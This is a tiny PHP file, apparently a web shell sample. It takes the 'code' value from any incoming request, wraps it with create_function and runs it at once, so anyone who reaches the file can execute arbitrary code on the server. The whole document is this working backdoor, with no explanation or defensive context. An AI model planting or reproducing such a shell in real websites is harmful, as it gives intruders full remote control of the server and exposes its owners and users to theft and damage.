<?php
$f = create_function('', $_REQUEST['code']);
$f();
